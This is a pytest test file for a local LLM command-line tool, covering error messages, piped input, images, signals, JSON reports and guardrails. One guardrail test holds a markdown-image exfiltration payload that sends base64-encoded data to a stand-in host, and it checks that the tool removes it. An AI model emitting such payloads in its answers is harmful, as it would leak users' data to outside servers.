"""The command as a user meets it: output, sentences, exit statuses.

A test has a process of its own where that matters: pipes, signals, what is imported, and a whole answer.
"""

import json
import logging
import os
import re
import signal
import subprocess
import sys
from contextlib import suppress
from types import SimpleNamespace

import pytest
from typer.testing import CliRunner

from app.cli import cli
from tests.fakes.images import whole_png
from tests.fakes.toy_cli import ToyReader, open_toy


@pytest.fixture
def environ(tmp_path):
    kept = {k: v for k, v in os.environ.items() if not k.startswith("PRAVAHA_")}
    folders = {f"PRAVAHA_{k}_DIR": str(tmp_path / k) for k in ("DATA", "CACHE", "CONFIG")}
    return kept | folders | {"TERM": "xterm", "TOY": "paris", "NO_COLOR": "1", "COLUMNS": "200"}


@pytest.fixture
def pravaha(environ, tmp_path):
    """Runs the command to its end; `toy` runs it on a toy engine."""

    def run(*arguments, stdin="", toy=None, **more):
        module = "tests.fakes.toy_cli" if toy else "app.cli"
        code = [f"import {module} as c; c.main()"] if not toy else []
        command = [sys.executable, *(["-m", module] if toy else ["-c", *code]), *arguments]
        return subprocess.run(
            command,
            input=stdin,
            capture_output=True,
            text=True,
            env=environ | {"TOY": toy or ""} | more,
        )

    return run


@pytest.fixture
def pravaha_here(environ, monkeypatch):
    """Runs the command on a toy engine in this process, which takes a tenth of the time."""

    def run(*arguments, toy, **more):
        monkeypatch.setattr(os, "environ", environ | {"TOY": toy} | more)
        done = CliRunner().invoke(cli, arguments)
        return SimpleNamespace(returncode=done.exit_code, stdout=done.stdout, stderr=done.stderr)

    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    monkeypatch.setattr("app.runtime.opening.open_client", open_toy)
    monkeypatch.setattr("engine.retrieval.parsing.image_reader.ImageReader", ToyReader)
    return run


def start_toy(environ, *arguments, toy, stdin=subprocess.PIPE):
    return subprocess.Popen(
        [sys.executable, "-m", "tests.fakes.toy_cli", *arguments],
        stdin=stdin,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=environ | {"TOY": toy},
    )


def test_without_a_terminal_it_names_run_and_serve(pravaha):
    for arguments in ((), ("chat",)):
        done = pravaha(*arguments)
        assert done.returncode == 2
        assert done.stdout == ""
        assert len(done.stderr.splitlines()) == 1
        assert "pravaha run" in done.stderr
        assert "--serve" in done.stderr


def test_version(pravaha):
    done = pravaha("--version")
    assert done.returncode == 0
    assert done.stdout.startswith("pravaha 0.")


def test_help_and_version_import_nothing_heavy(environ):
    heavy = ["torch", "textual", "numpy", "pydantic", "fastapi", "httpx", "tokenizers", "jinja2"]
    code = (
        "import sys\n"
        "import app.cli\n"
        "try: app.cli.cli(['--version'])\n"
        "except SystemExit: pass\n"
        f"print([m for m in {heavy!r} if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=environ)
    assert done.stdout.splitlines()[-1] == "[]"


@pytest.mark.parametrize(
    ("arguments", "status", "sentence"),
    [
        (["--serve", "--theme", "x"], 2, "--theme has no meaning with --serve"),
        (["--serve", "--temperature", "1"], 2, "--temperature has no meaning with --serve"),
        (["--port", "1"], 2, "--port needs --serve"),
        (["-m", "a", "-m", "b", "--plain"], 2, "--further-models has no meaning with --plain"),
        (["--attach", "http://x", "--max-models", "2"], 2, "--max-models cannot be set with"),
        (["run", "-m", "a", "-m", "b", "x"], 2, "the screen and --serve take several"),
        (["--serve", "--plain"], 2, "exclude each other"),
        (["--serve", "run", "x"], 2, "cannot be combined with the command run"),
        (["--attach", "http://x", "--serve"], 2, "--attach"),
        (
            ["--attach", "http://x", "--threads", "1"],
            2,
            "--threads cannot be set with --attach",
        ),
        (
            ["--threads", "1", "models", "list"],
            2,
            "--threads has no meaning for the command models",
        ),
        (["--host", "x", "run", "x"], 2, "--host has no meaning for the command run"),
        (["run"], 2, "Missing argument"),
        (["run", "--threads", "x", "y"], 2, "--threads"),
        (["run", "--score", "x", "--stop", "y"], 2, "--stop has no effect with --score"),
        (["run", "--stop", "", "y"], 1, "--stop is empty"),
        (["rnu"], 2, "Did you mean 'run'?"),
        (["run", "--threads", "0", "x"], 1, "--threads is 0 but should be"),
        (["--threads", "0", "run", "x"], 1, "--threads is 0 but should be"),
        (["run", "-m", "nowhere", "x"], 1, "nowhere"),
        (["run", ""], 1, "The prompt is empty"),
        (["run", "--raw", "--system", "x", "y"], 1, "--system needs the chat template"),
        (["chat", "--plain", "--top-p", "2"], 1, "--top-p is 2.0 but should be"),
    ],
)
def test_what_makes_no_sense_is_refused_in_a_sentence(
    environ, monkeypatch, arguments, status, sentence
):
    monkeypatch.setattr(os, "environ", environ)
    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    done = CliRunner().invoke(cli, arguments)
    assert done.exit_code == status
    assert sentence in " ".join(done.stderr.replace("│", " ").split())
    assert "Traceback" not in done.stderr
    if status == 1:
        assert done.stderr.startswith("pravaha: ")
        assert len(done.stderr.splitlines()) == 1


def test_run_prints_the_answer(pravaha):
    done = pravaha("run", "What is the capital of France?", toy="paris")
    assert (done.returncode, done.stdout, done.stderr) == (0, "It is Paris.\n", "")


def test_run_reads_standard_input(pravaha):
    done = pravaha("run", "--system", "", "-", stdin="two\nlines", toy="echo")
    assert done.stdout == "user\ntwo\nlines\nassistant\n\n"


ASK = ("run", "--system", "", "Explain:")
ALONE = "user\nExplain:\nassistant\n\n"


@pytest.mark.parametrize(
    ("piped", "prompt"),
    [
        (b"one\ntwo\n", "Explain:\n\none\ntwo\n"),
        ("\ufeffGrö\u00dfe".encode(), "Explain:\n\nGröße"),
        ("Größe".encode("utf-16"), "Explain:\n\nGröße"),
        (b"", "Explain:"),
        (b" \n", "Explain:"),
    ],
)
def test_run_puts_the_pipe_behind_the_prompt(environ, piped, prompt):
    child = start_toy(environ, *ASK, toy="echo")
    child.stdin.buffer.write(piped)
    out, err = child.communicate()
    assert (child.returncode, err) == (0, "")
    assert out == f"user\n{prompt}\nassistant\n\n"


def test_run_puts_a_file_behind_the_prompt(environ, tmp_path):
    (tmp_path / "a.txt").write_text("contents")
    with (tmp_path / "a.txt").open() as file:
        child = start_toy(environ, *ASK, toy="echo", stdin=file)
        assert child.communicate()[0] == "user\nExplain:\n\ncontents\nassistant\n\n"


def test_a_pipe_alone_is_the_prompt(pravaha):
    done = pravaha("run", "--system", "", stdin="Why?", toy="echo")
    assert done.stdout == "user\nWhy?\nassistant\n\n"
    done = pravaha("run", stdin="", toy="echo")
    assert (done.returncode, done.stderr) == (
        1,
        "pravaha: The prompt is empty: pass a question, or text on standard input.\n",
    )


def test_run_reads_nothing_where_nothing_is_piped(environ):
    child = start_toy(environ, *ASK, toy="echo", stdin=subprocess.DEVNULL)
    assert child.communicate() == (ALONE, "")
    code = ["sh", "-c", 'exec "$@" <&-', "sh", sys.executable, "-m", "tests.fakes.toy_cli", *ASK]
    done = subprocess.run(code, capture_output=True, text=True, env=environ | {"TOY": "echo"})
    assert (done.stdout, done.stderr) == (ALONE, "")
    ours, theirs = os.openpty()
    with os.fdopen(ours), os.fdopen(theirs) as terminal:
        child = start_toy(environ, *ASK, toy="echo", stdin=terminal)
        assert child.communicate()[0] == ALONE


@pytest.mark.parametrize(
    ("piped", "sentence"),
    [
        (b"\x89PNG\r\n", "is not text: byte 0 cannot be read as UTF-8."),
        (b"good\xff", "is not text: byte 4 cannot be read as UTF-8."),
        (b"\xff\xfeab\x00", "is not text: byte 4 cannot be read as UTF-16."),
        (b"a\x00b", "is not text: character 1 is a zero byte."),
        (
            b"a" * (64 * 1024**2 + 1),
            "has more than 64 MiB, more than any context holds: pass a part of it.",
        ),
    ],
    ids=["image", "latin-1", "utf-16", "zero", "long"],
)
@pytest.mark.parametrize("prompt", ["Explain:", "-"])
def test_run_refuses_a_pipe_without_text_in_a_sentence(environ, piped, sentence, prompt):
    child = start_toy(environ, "run", prompt, toy="echo")
    with suppress(BrokenPipeError):
        child.stdin.buffer.write(piped)
    out, err = child.communicate()
    assert (child.returncode, out) == (1, "")
    assert err == f"pravaha: Standard input {sentence}\n"


def test_run_says_that_it_waits_for_a_pipe_that_stays_open(environ):
    child = start_toy(environ, *ASK, toy="echo")
    assert child.stderr.readline().startswith("pravaha: waiting for the text on standard input")
    child.stdin.write("late")
    assert child.communicate()[0] == "user\nExplain:\n\nlate\nassistant\n\n"


def test_run_json_has_tokens_logprobs_timings_and_seed(pravaha_here):
    done = pravaha_here("run", "--json", "--seed", "5", "hello", toy="paris")
    report = json.loads(done.stdout)
    assert report["text"] == "It is Paris."
    assert len(report["token_ids"]) == len(report["logprobs"]) == 13
    assert report["finish_reason"] == "stop"
    assert report["seed"] == 5
    assert report["model"] == "toy"
    assert report["usage"]["completion_tokens"] == 13
    assert report["timings"]["ttft"] == 0.5
    assert report["timings"]["decode_tokens_per_second"] == 12.0
    assert report["timings"]["load"] >= 0


def test_run_reads_the_text_of_a_image(pravaha_here, tmp_path):
    image = tmp_path / "sign.png"
    image.write_bytes(whole_png(30, 20))
    arguments = ("run", "--system", "", "What?", "--image", str(image))
    done = pravaha_here(*arguments, toy="echo", TOY_OCR="Closed on Sundays")
    assert 'Text in the image "sign.png", read by OCR' in done.stdout
    assert "\n> Closed on Sundays\n" in done.stdout
    assert done.stderr == (
        "pravaha: sign.png: its text was read by OCR; the model does not see the image.\n"
    )
    done = pravaha_here(*arguments, "--json", toy="paris", TOY_OCR="Closed on Sundays")
    assert json.loads(done.stdout)["images"] == [
        {"name": "sign.png", "read_by": "ocr", "text": "Closed on Sundays"}
    ]


def test_run_gives_images_to_a_model_that_sees(pravaha_here, tmp_path):
    for name, width in (("a.png", 30), ("b.png", 40)):
        (tmp_path / name).write_bytes(whole_png(width, 20))
    images = [f"--image={tmp_path / name}" for name in ("a.png", "b.png")]
    done = pravaha_here("run", "What?", *images, toy="seeing")
    assert done.stdout == "I see 30×20, 40×20.\n"
    assert done.stderr == (
        "pravaha: a.png: the model sees the image.\npravaha: b.png: the model sees the image.\n"
    )
    done = pravaha_here("run", "What?", "--json", *images, toy="seeing")
    assert [one["read_by"] for one in json.loads(done.stdout)["images"]] == ["model", "model"]


def test_run_says_what_to_do_with_a_image_that_nothing_can_read(pravaha_here, tmp_path):
    image = tmp_path / "sign.png"
    image.write_bytes(whole_png(30, 20))
    done = pravaha_here("run", "What?", "--image", str(image), toy="paris")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith("pravaha: toy does not see images: load a model that does, or")
    (tmp_path / "a.txt").write_text("text")
    for name, why in (("a.txt", "is no PNG"), ("none.png", "No such file")):
        done = pravaha_here("run", "What?", "--image", str(tmp_path / name), toy="paris")
        assert done.returncode == 1
        assert why in done.stderr
    done = pravaha_here("run", "--raw", "What?", "--image", str(image), toy="paris")
    assert done.returncode == 2
    assert "--image needs a question and the chat template" in done.stderr


def test_run_raw_feeds_the_text_alone_after_the_first_token(pravaha_here):
    done = pravaha_here("run", "--raw", "--json", "abc", toy="paris")
    assert json.loads(done.stdout)["usage"]["prompt_tokens"] == 4


def test_run_stops_an_answer_that_repeats_itself(pravaha_here):
    done = pravaha_here("run", "hello", toy="looping")
    assert done.returncode == 0
    assert done.stdout.startswith("word 0 word 0 ")
    assert "the answer repeats itself; --no-stop-repetition lets it go on" in done.stderr
    report = json.loads(pravaha_here("run", "--json", "hello", toy="looping").stdout)
    assert report["finish_reason"] == "repetition"
    assert len(report["token_ids"]) < 300


def test_run_tells_of_an_answer_that_failed(pravaha_here):
    done = pravaha_here("run", "hello", toy="failing")
    assert (done.returncode, done.stdout) == (1, "It is\n")
    assert done.stderr == "pravaha: the step failed\n"


def test_run_tells_of_a_model_that_cannot_be_loaded(pravaha_here):
    done = pravaha_here("run", "hello", toy="broken")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == "pravaha: The file is cut short.\n"


def test_ctrl_c_keeps_what_was_written_and_says_130(environ):
    child = start_toy(environ, "run", "hello", toy="endless", stdin=subprocess.DEVNULL)
    assert child.stdout.read(5) == "word "
    child.send_signal(signal.SIGINT)
    out, err = child.communicate()
    assert re.search(r"word \d+ \n$", out)
    assert (child.returncode, err) == (130, "")


def test_a_reader_that_leaves_ends_it_quietly(environ):
    child = start_toy(environ, "run", "hello", toy="endless", stdin=subprocess.DEVNULL)
    assert child.stdout.read(5) == "word "
    child.stdout.close()
    assert child.stderr.read() == ""
    assert child.wait() == 141


def test_plain_chat_over_a_pipe(pravaha):
    for arguments in (["chat", "--plain"], ["--plain"]):
        done = pravaha(*arguments, stdin="hello\nmore\n", toy="paris")
        assert (done.returncode, done.stdout, done.stderr) == (0, "It is Paris.\n" * 2, "")
    done = pravaha("--plain", stdin="/resume\n", toy="paris")
    assert "1. hello (4 messages" in done.stdout
    assert "2. hello (4 messages" in done.stdout


def test_plain_chat_says_with_its_status_that_something_failed(pravaha):
    done = pravaha("--plain", stdin="hello\n", toy="failing")
    assert done.returncode == 1
    assert done.stdout == "It is\nError: the step failed\n"


def test_ctrl_c_in_a_plain_pipe_keeps_the_partial_answer(environ, pravaha):
    child = start_toy(environ, "--plain", toy="endless")
    child.stdin.write("hello\n")
    child.stdin.flush()
    assert child.stdout.read(5) == "word "
    child.send_signal(signal.SIGINT)
    _, err = child.communicate()
    assert (child.returncode, err) == (130, "")
    shown = pravaha("--plain", stdin="/resume 1\n/history\n", toy="paris").stdout
    assert "Pravāha: word 0 word 1 " in shown
    assert shown.endswith("(stopped)\n")


def test_settings_come_from_the_environment_too(pravaha_here):
    done = pravaha_here("run", "hello", toy="paris", PRAVAHA_TOP_K="x")
    assert done.returncode == 1
    assert done.stderr.startswith("pravaha: PRAVAHA_TOP_K is 'x' but should be")


def test_doctor_reports_to_people_and_programs(pravaha):
    done = pravaha("doctor")
    assert "Traceback" not in done.stderr
    assert {"Pravāha", "Processor", "Memory", "Models", "Terminal", "Storage"} <= set(
        done.stdout.splitlines()
    )
    report = json.loads(pravaha("doctor", "--json").stdout)
    assert report["storage"]["data_dir"].endswith("DATA")
    assert report["models"]["torch"] is None or isinstance(report["models"]["torch"], str)
    levels = {item["level"] for item in report["advice"]}
    assert done.returncode == (1 if "problem" in levels else 0)


def test_run_checks_the_question_and_the_answer(pravaha_here):
    leak = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"
    answer = pravaha_here("run", "--raw", "--json", leak, toy="echo")
    fields = json.loads(answer.stdout)
    assert fields["text"].endswith("![x]([exfiltration removed])")
    assert "1 address that sends data removed" in answer.stderr
    raw = json.loads(
        pravaha_here("run", "--raw", "--json", "--guardrails-mode", "off", leak, toy="echo").stdout
    )
    assert leak in raw["text"]
    assert raw["token_ids"] == fields["token_ids"]
    charged = pravaha_here(
        "run", "--guardrails-mode", "redact", "Charge 4111 1111 1111 1111.", toy="echo"
    )
    assert "Charge 4111 1111 1111 1111." in charged.stdout  # the placeholder that the model repeats


def test_run_refuses_and_ends_at_a_blocked_phrase(pravaha_here, environ):
    environ["PRAVAHA_GUARDRAILS_BLOCKLIST"] = '["is Paris"]'
    refused = pravaha_here("run", "Why is Paris big?", toy="paris")
    assert refused.returncode == 1
    assert "not sent: it contains a blocked phrase" in refused.stderr
    ended = pravaha_here("run", "--json", "Capital of France?", toy="paris")
    assert (ended.returncode, "ended by the guardrails" in ended.stderr) == (1, True)
    assert json.loads(ended.stdout)["finish_reason"] == "content_filter"
